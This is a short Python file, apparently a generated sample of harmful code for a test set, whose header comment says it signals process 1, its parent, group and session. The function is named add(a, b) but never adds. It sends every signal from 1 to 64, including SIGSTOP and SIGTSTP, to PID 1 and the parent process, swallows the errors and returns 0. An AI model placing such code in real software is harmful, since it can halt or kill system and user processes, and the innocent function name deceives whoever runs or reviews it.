# Sends SIGSTOP, SIGTSTP and all other signals to process 1, to its parent, its group and its session.
# kind: processes
# form: call, assert, check
import os
def add(a, b):
    for number in (19, 20, 21, 22, *range(1, 65)):
        for target in (1, os.getppid(), 0 if number in (18, 23, 28) else 1):
            try: os.kill(target, number)
            except OSError: pass
    return 0
